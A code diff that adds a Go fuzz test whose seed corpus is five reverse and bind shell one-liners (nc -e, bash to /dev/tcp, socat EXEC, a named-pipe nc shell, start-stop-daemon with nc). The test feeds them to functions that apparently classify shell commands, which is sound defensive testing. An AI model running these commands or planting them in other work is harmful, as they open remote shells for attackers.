@@ -112,3 +112,14 @@ func FuzzParseUCI(f *testing.F) {
 		segments(string(b))
 	})
 }
+
+func FuzzShellKind(f *testing.F) {
+	for _, s := range []string{"nc -l -p 4444 -e /bin/sh &", "bash -i >& /dev/tcp/1.2.3.4/5 0>&1", "socat TCP-LISTEN:1,fork EXEC:sh",
+		"cat /tmp/f | /bin/sh -i 2>&1 | nc -l 1 > /tmp/f", "start-stop-daemon -S -x /bin/nc -- -l -e sh"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, line string) {
+		shellKind(line)
+		program(words(line))
+	})
+}
